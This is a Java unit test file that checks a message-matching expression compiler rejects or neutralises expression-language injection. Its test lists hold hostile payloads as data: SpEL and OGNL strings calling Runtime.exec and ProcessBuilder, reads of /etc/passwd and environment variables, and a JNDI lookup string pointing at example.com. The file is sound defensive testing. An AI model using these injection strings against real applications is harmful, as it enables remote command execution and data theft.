package io.sqsmega.match;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.sqsmega.codec.BodyDecoder;
import io.sqsmega.codec.DecodeResult;
import io.sqsmega.codec.Payload;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Expressions are sandboxed (issue 12): no path, function or literal reaches Java methods, classes,
 * beans, system properties or the environment. What SpEL, OGNL, MVEL or Spring placeholders would
 * run is a compile error here, and the same text in a payload is just text.
 */
class MatchSandboxTest {

    private static final String MARKER = "sqs.mega.sandbox.marker";

    private final MatchCompiler compiler = MatchCompiler.create();

    private static MatchInput body(String json) {
        return MatchInput.of(((DecodeResult.Decoded) BodyDecoder.create().decode(json)).payload());
    }

    @Test
    void languageFormsOfOtherExpressionLanguagesAreCompileErrors() {
        List<String> attacks = List.of(
                "T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwned')",
                "T(java.lang.System).setProperty('" + MARKER + "', 'x') == null",
                "#{T(java.lang.System).getenv('PATH')} == 'x'",
                "${user.home} == 'x'",
                "event.name == ${user.home}",
                "@environment.getProperty('x') == 'y'",
                "@megaTemplate != null",
                "#root.class.name == 'x'",
                "#this == 'x'",
                "new java.io.File('/etc/passwd').exists()",
                "new java.lang.ProcessBuilder({'id'}).start() == null",
                "event.name.getClass().forName('java.lang.Runtime') == null",
                "data.x.toString() == 'x'",
                "@java.lang.Math@max(1, 2) == 2",
                "(#rt = @java.lang.Runtime@getRuntime()) == null",
                "data.x = 'overwritten'",
                "event.name == 'a'; System.exit(1)",
                "java.lang.System.getProperty('user.home') == 'x'",
                "getenv('PATH') == 'x'",
                "getProperty('user.home') == 'x'",
                "forName('java.lang.Runtime') == null",
                "exec('id') == null",
                "class('java.lang.Runtime') == null",
                "data.x == `id`",
                "data.x instanceof T(java.lang.String)");
        for (String attack : attacks) {
            assertThatThrownBy(() -> compiler.compile(attack), attack).isInstanceOf(MatchCompileException.class);
        }
        assertThat(System.getProperty(MARKER)).isNull();
    }

    @Test
    void pathsThatNameJavaMembersAreJustKeys() {
        // No bean-property access: a segment is a key of a map (or an index of a list), nothing else.
        MatchInput input = body("{\"x\":\"abc\",\"n\":[1,2]}");
        for (String path : List.of("data.class", "data.x.class", "data.x.length", "data.x.bytes", "data.n.size",
                "data.x.empty", "text.length", "event.class", "data.getClass", "message.class", "sns.class")) {
            assertThat(compiler.compile("exists(" + path + ")").evaluate(input)).as(path).isEqualTo(MatchResult.FALSE);
        }
        MatchInput keyed = body("{\"class\":\"java.lang.Runtime\",\"getClass\":{\"name\":\"x\"}}");
        assertThat(compiler.compile("data.class == 'java.lang.Runtime'").evaluate(keyed)).isEqualTo(MatchResult.TRUE);
        assertThat(compiler.compile("data['class'] == 'java.lang.Runtime'").evaluate(keyed)).isEqualTo(MatchResult.TRUE);
        assertThat(compiler.compile("data.getClass.name == 'x'").evaluate(keyed)).isEqualTo(MatchResult.TRUE);
    }

    @Test
    void expressionLanguageTextInAPayloadOrALiteralIsJustText() {
        List<String> payloads = List.of("${user.home}", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "T(java.lang.System).getenv('PATH')", "@environment", "%{#a=1}", "${jndi:ldap://example.com/a}");
        for (String value : payloads) {
            String literal = ExprPrinter.quote(value);
            MatchInput input = MatchInput.of(new Payload.Data(Map.of("x", value)));
            assertThat(compiler.compile("data.x == " + literal).evaluate(input)).as(value).isEqualTo(MatchResult.TRUE);
            assertThat(compiler.compile("data.x == 'x'").evaluate(input)).as(value).isEqualTo(MatchResult.FALSE);
            assertThat(compiler.compile("text == " + literal).evaluate(MatchInput.of(new Payload.Text(value))))
                    .isEqualTo(MatchResult.TRUE);
        }
        // A placeholder in a literal is not resolved: the home directory is not what it compares with.
        assertThat(compiler.compile("data.x == '${user.home}'")
                .evaluate(MatchInput.of(new Payload.Data(Map.of("x", System.getProperty("user.home"))))))
                .isEqualTo(MatchResult.FALSE);
    }

    @Test
    void onlyRegisteredFunctionsCanBeCalled() {
        for (String name : List.of("getRuntime", "exec", "forName", "getenv", "getProperty", "newInstance", "invoke",
                "load", "loadClass", "lookup", "eval", "toString", "hashCode", "wait", "notify")) {
            assertThatThrownBy(() -> compiler.compile(name + "(data.x)")).as(name)
                    .isInstanceOf(MatchCompileException.class).hasMessageContaining("unknown function '" + name + "'");
        }
        MatchFunction upper = MatchFunction.of("shout", 1, args -> String.valueOf(args.get(0)).toUpperCase());
        assertThat(MatchCompiler.create(FunctionRegistry.of(upper)).compile("shout(data.x) == 'A'")
                .evaluate(MatchInput.of(new Payload.Data(Map.of("x", "a"))))).isEqualTo(MatchResult.TRUE);
    }
}
